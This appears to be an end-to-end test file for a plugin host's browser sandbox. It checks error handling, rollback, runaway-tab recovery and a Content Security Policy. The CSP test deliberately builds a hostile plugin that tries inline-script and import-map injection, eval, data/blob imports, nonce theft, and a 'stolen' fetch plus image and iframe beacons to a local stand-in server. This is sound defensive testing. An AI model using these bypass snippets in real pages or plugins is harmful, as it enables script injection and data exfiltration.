import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import process from "node:process";
import { LINE, rawArchive } from "@doorstep/plugin-host/testing";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { expectNoViolations } from "./axe.ts";
import { openBrowser, STILL } from "./browser.ts";
import { leave, press, walkOf } from "./desk-walk.ts";
import { type House, openHouse } from "./house.ts";
import { choose, install, makers } from "./show-box.ts";

let browser: Browser;
let house: House;
beforeAll(async () => {
  [browser, house] = await Promise.all([openBrowser(), openHouse()]);
}, 120_000);
afterAll(async () => {
  elsewhere.close();
  await browser.close();
  await house[Symbol.asyncDispose]();
});

const points = { page: "portal/page@1", tile: "portal/home-tile@1" } as const;

/** A module with a browser half written by hand, as somebody would who means no good. */
const withHalf = (id: string, version: string, code: string, at: keyof typeof points = "page") => {
  const title = { "zh-CN": `模块${id}`, en: `Module ${id}` };
  const entry = `ui/portal/entry-${version.replaceAll(".", "-")}.js`;
  return rawArchive({
    id,
    version,
    privateKey: makers.privateKey,
    server: `${LINE} hear((m) => m.type === "begin" && post(ready));`,
    files: { [entry]: code },
    manifest: { ui: { portal: { entry, css: [] } }, contributions: [{ point: points[at], key: `${id}/show`, title }] },
  });
};
const half = (id: string, part: string, before = "") => `
import { jsx } from "react/jsx-runtime";
import { useEffect, useState } from "react";
import { pluginUi, Screen } from "@doorstep/sdk/ui";
const title = { "zh-CN": "模块${id}", en: "Module ${id}" };
${before}
export default pluginUi({ id: "${id}" }, "portal", ${part});`;
const pageOf = (id: string, render: string, before = "") =>
  half(id, `{ pages: { show: { path: "/", title, component: () => { ${render} } } } }`, before);

const visit = async (path: string): Promise<Page> => {
  const page = await (await browser.newContext({ ...STILL, locale: "zh-CN" })).newPage();
  await page.goto(`${house.url}${path}`);
  return page;
};
const UNAVAILABLE = "此模块暂不可用";

test("a new version that throws shows its own box; an open page goes on; after going back the retry shows it again", async () => {
  const good = pageOf("flaky", 'return jsx(Screen, { title: "好的版本", children: "一切正常" });');
  const bad = pageOf("flaky", 'throw new Error("张三的身份证号是 110");');
  await install(house, await withHalf("flaky", "1.0.0", good));
  await choose(house, "flaky", "on");
  const open = await visit("/p/flaky?u=FIRST");
  await open.getByText("一切正常").waitFor();

  await install(house, await withHalf("flaky", "1.1.0", bad));
  await open.getByRole("button", { name: "English" }).click();
  await open.getByRole("heading", { name: "好的版本" }).waitFor();

  const page = await visit("/p/flaky?u=FIRST");
  await page.getByRole("alert").getByText(UNAVAILABLE).waitFor();
  await expectNoViolations(page);
  await page.getByRole("button", { name: "English" }).click();
  await page.getByText("This module is not available now").waitFor();

  const { archives, serving } = house.server.platform.host;
  const [first] = (await archives?.versions("flaky"))?.filter((one) => one.version === "1.0.0") ?? [];
  await archives?.rollBack({ pluginId: "flaky", digest: first?.digest ?? "" }, { by: "system", why: "坏了" });
  await press(page, "Try again");
  await page.getByText("Trying again loads the whole page anew").waitFor();
  await press(page, "Try again");
  await page.getByRole("heading", { name: "好的版本" }).waitFor();
  await leave(page);

  await leave(open);
  await serving.health.book.settled();
  const { rows } = await house.server.database.pool.query(
    "select version, kind, unit_id, code, count, last_at::time::text as at from kernel.plugin_incident where plugin_id = 'flaky'",
  );
  expect(rows).toEqual([{ version: "1.1.0", kind: "page", unit_id: null, code: "threw", count: 1, at: "00:00:00" }]);
  const admin = await walkOf(house, browser).desk("admin");
  await admin.goto(`${house.url}/admin/modules/flaky`);
  await admin.getByText("在浏览器中显示").waitFor();
  await expectNoViolations(admin);
  await leave(admin);
}, 90_000);

test("what was installed after a page was opened says that the page must be opened anew, and does that", async () => {
  const open = await visit("/?u=FIRST");
  await open.getByRole("heading", { level: 1 }).waitFor();
  await install(
    house,
    await withHalf("late", "1.0.0", pageOf("late", 'return jsx(Screen, { title: "新来的", children: "到了" });')),
  );
  await choose(house, "late", "on");
  const to = (address: string) =>
    open.evaluate((where) => {
      history.pushState({}, "", where);
      dispatchEvent(new PopStateEvent("popstate"));
    }, address);
  // at another unit the page asks anew what is on
  await Promise.all([open.waitForResponse(/registry\.forUnit/), to("/?u=BRIGADE")]);
  await to("/p/late");
  await open.getByText("模块已更新").waitFor();
  await expectNoViolations(open);
  await press(open, "重试");
  await open.getByRole("heading", { name: "新来的" }).waitFor();
  await leave(open);
});

test("words come with the first part that is shown; a part whose words do not come says so instead of showing their keys", async () => {
  const words = (zh: string) => `{ "zh-CN": async () => { ${zh} }, en: async () => ({ hello: "Hello" }) }`;
  const saying = (id: string, zh: string) =>
    half(
      id,
      `{ catalogs: ${words(zh)}, homeTiles: { show: { title } }, pages: { show: { path: "/", title, component: () =>
        jsx(Screen, { title: usePlugin({ id: "${id}" }).t("hello"), children: "在这里" }) } } }`,
      'import { usePlugin } from "@doorstep/sdk/ui";',
    );
  const good = 'document.body.dataset.fetched = "yes"; return { hello: "您好" };';
  await install(house, await withHalf("wordy", "1.0.0", saying("wordy", good), "tile"));
  await install(house, await withHalf("wordless", "1.0.0", saying("wordless", "throw new Error('gone');"), "tile"));
  for (const id of ["wordy", "wordless"]) await choose(house, id, "on");

  const page = await visit("/?u=FIRST");
  await page.getByRole("link", { name: "模块wordless" }).waitFor();
  const fetched = () => page.evaluate(() => document.body.dataset.fetched);
  expect(await fetched()).toBeUndefined();
  await page.getByRole("link", { name: "模块wordy" }).click();
  await page.getByRole("heading", { name: "您好" }).waitFor();
  expect(await fetched()).toBe("yes");
  await page.getByRole("button", { name: "English" }).click();
  await page.getByRole("heading", { name: "Hello" }).waitFor();

  await page.goto(`${house.url}/p/wordless?u=FIRST&lang=zh-CN`);
  await page.getByRole("alert").getByText(UNAVAILABLE).waitFor();
  expect(await page.getByText("hello").count()).toBe(0);
  await expectNoViolations(page);
  await leave(page);
  for (const id of ["wordy", "wordless"]) await choose(house, id, "off");
}, 90_000);

test("one that throws while it is loaded, or has no declaration, takes nothing along", async () => {
  await install(house, await withHalf("thrower", "1.0.0", "throw new Error('x');", "tile"));
  await install(house, await withHalf("empty", "1.0.0", "export default 1;", "tile"));
  await choose(house, "thrower", "on");
  await choose(house, "empty", "on");
  const page = await (await browser.newContext({ ...STILL, locale: "zh-CN" })).newPage();
  const asked: string[] = [];
  page.on("request", (request) => void asked.push(new URL(request.url()).pathname));
  await page.goto(`${house.url}/?u=FIRST`);
  await page
    .getByRole("link", { name: /反映问题/ })
    .first()
    .waitFor();
  await page.getByRole("link", { name: /查进度/ }).click();
  await page.getByRole("heading", { level: 1 }).waitFor();
  // what has only a page of its own is not fetched for the pages of others
  const modules = asked.filter((path) => path.startsWith("/plugins/")).map((path) => path.split("/")[2]);
  expect([...new Set(modules)].sort()).toEqual(["empty", "thrower"]);
  await expectNoViolations(page);
  await leave(page);
});

/** What somebody else's server hears of. */
const heard: string[] = [];
const elsewhere = createServer((request, response) => {
  heard.push(request.url ?? "");
  response
    .writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" })
    .end("globalThis.far = true;");
});

const tries = (far: string) => ({
  element: `const s = document.createElement("style"); s.textContent = "h1 { color: rgb(1, 2, 3) }"; document.head.append(s);`,
  script: `const s = document.createElement("script"); s.textContent = "globalThis.inline = true"; document.head.append(s);`,
  evaluated: `(0, eval)("globalThis.evaluated = true");`,
  elsewhere: `await import("data:text/javascript,globalThis.elsewhere=true");`,
  unlisted: `await import("/plugins/tamper/1.0.0/ui/portal/other.js");`,
  blob: `await import(URL.createObjectURL(new Blob(["globalThis.blob = true"], { type: "text/javascript" })));`,
  sent: `await fetch("${far}/?stolen"); globalThis.sent = true;`,
  frame: `const f = document.createElement("iframe"); f.src = "${far}/frame"; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); f.remove();`,
  picture: `await new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = "${far}/picture"; });`,
  noncedByPage: `const s = document.createElement("script"); s.nonce = (document.querySelector("script[nonce]") ?? document.querySelector("[nonce]"))?.nonce; s.textContent = "globalThis.nonced = true"; document.head.append(s);`,
  far: `await import("${far}/x.js");`,
  map: `const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ imports: { react: "data:text/javascript,globalThis.mapped=true" } }); document.head.append(m); await import("react");`,
});

/** The processes that tabs run in. */
async function tabProcesses(): Promise<readonly number[]> {
  const session = await browser.newBrowserCDPSession();
  const { processInfo } = await session.send("SystemInfo.getProcessInfo");
  await session.detach();
  return processInfo.flatMap((one) => (one.type === "renderer" ? [one.id] : []));
}

test.each([
  ["is shown", 'console.log("spins"); for (;;);'],
  [
    "is used",
    'return jsx(Screen, { title: "转圈", children: jsx("button", { onClick: () => { console.log("spins"); for (;;); }, children: "转" }) });',
  ],
] as const)(
  "one that loops for ever when it %s stops its own tab; opened anew, the page leaves it out and says so",
  async (when, render) => {
    const id = when === "is shown" ? "looper" : "spinner";
    await install(house, await withHalf(id, "1.0.0", pageOf(id, render)));
    await choose(house, id, "on");
    const context = await browser.newContext({ ...STILL, locale: "zh-CN" });
    const path = `${house.url}/p/${id}?u=FIRST`;
    const others = await tabProcesses();
    const stuck = await context.newPage();
    const spins = stuck.waitForEvent("console", (message) => message.text() === "spins");
    await stuck.goto(path, { waitUntil: "commit" });
    if (when === "is used") {
      await stuck.getByRole("button", { name: "转" }).waitFor();
      void stuck
        .getByRole("button", { name: "转" })
        .click()
        .catch(() => undefined);
    }
    await spins;
    const before = Date.now();
    // nobody gives a page up sooner
    await expect.poll(() => Date.now() - before, { timeout: 10_000, interval: 100 }).toBeGreaterThan(2_200);
    // as the browser does when its reader says that the page is to end
    for (const id of (await tabProcesses()).filter((one) => !others.includes(one))) process.kill(id, "SIGKILL");

    const page = await context.newPage();
    await page.goto(path);
    await page.getByRole("alert").getByText("这次先不显示").waitFor();
    await expectNoViolations(page);
    if (when === "is used") {
      await press(page, "重试");
      await page.getByRole("heading", { name: "转圈" }).waitFor();
    } else {
      await page.getByRole("button", { name: "English" }).click();
      await page.getByText("it is left out now").waitFor();
    }
    await leave(page);
  },
);

test("the page's policy keeps it from styles, scripts and addresses that are not its own", async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  const far = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  const attempts = Object.values(tries(far))
    .map((code) => `await (async () => { ${code} })().catch(() => undefined);`)
    .join("\n");
  const code = pageOf(
    "tamper",
    `const [done, set] = useState(false); useEffect(() => { attack().then(() => set(true)); }, []);
     return jsx(Screen, { title: "试探", children: done ? "试完了" : "…" });`,
    `async function attack() { ${attempts} }`,
  );
  await install(house, await withHalf("tamper", "1.0.0", code));
  await choose(house, "tamper", "on");
  const page = await walkOf(house, browser).desk("officer");
  await page.goto(`${house.url}/p/tamper`);
  await page.getByText("试完了").waitFor();
  const got = await page.evaluate(() =>
    ["inline", "evaluated", "elsewhere", "blob", "sent", "nonced", "mapped", "far"].filter(
      (name) => name in globalThis,
    ),
  );
  expect(got).toEqual([]);
  expect(await page.locator("h1").evaluate((h) => getComputedStyle(h).color)).not.toBe("rgb(1, 2, 3)");
  expect(heard).toEqual([]);
  await leave(page);
});
